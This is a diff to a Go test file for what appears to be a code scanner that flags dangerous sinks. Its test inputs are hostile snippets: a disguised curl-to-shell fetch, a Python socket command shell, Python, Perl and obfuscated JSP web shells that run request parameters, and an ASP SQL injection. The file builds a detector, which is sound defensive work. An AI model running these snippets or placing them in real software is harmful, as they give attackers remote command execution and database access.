@@ -61,6 +61,15 @@ func TestSinkLines(t *testing.T) {
 		{"shell", "a=cur; b=l; $a$b http://192.0.2.1/x|sh\n", "code pipe-shell network - computed:other"},
 		{"shell", "echo harmless | base64 -d > /tmp/x\n", ""},
 		{"python", "import os\nprint(os.environ.get('HOME'))\n", ""},
+		// lists, names of imports, what a function is called with, and where output goes
+		{"python", "import socket, subprocess\ns = socket.socket()\nc, a = s.accept()\nwhile True:\n  d = c.recv(99).strip()\n  o = subprocess.getoutput(d)\n  c.send(o.encode())\n", "command getoutput socket - direct|reveal send command - direct"},
+		{"python", "from os import system as run\nfrom flask import request\nrun(request.args.get('c'))\n", "command system request:c - direct"},
+		{"python", "__import__('os').system(request.args['c'])\n", "command system request:c - direct"},
+		{"perl", "my $p = $ENV{'QUERY_STRING'};\nopen(F, \"< $p\");\nopen(C, \"$p 2>&1 |\");\nopen(O, \">$p\");\n", "file-read open part-request:* - direct|command open part-request:* - direct|file-write open - part-request:* direct"},
+		{"perl", "sub run { my ($c) = @_; system($c); }\nread(STDIN, my $b, $ENV{'CONTENT_LENGTH'});\nrun($b);\n", "command system request:* - direct"},
+		{"perl", "eval { open(F, '<', '/etc/hostname'); };\n", ""},
+		{"asp", "<% conn.Execute(\"update t set a=\" & Request(\"a\")) %>", "sql execute part-request:a - direct"},
+		{"jsp", "<jsp:scriptlet>Run<![CDATA[time.get]]>Run<![CDATA[time]]>().ex<![CDATA[ec(request.get]]>Parameter(\"c\"));</jsp:scriptlet>", "command exec request:c - direct"},
 	} {
 		got := strings.Join(fields(t, c.kind, c.code), "|")
 		if c.kind == "asp" && c.want == "" { // any command line will do
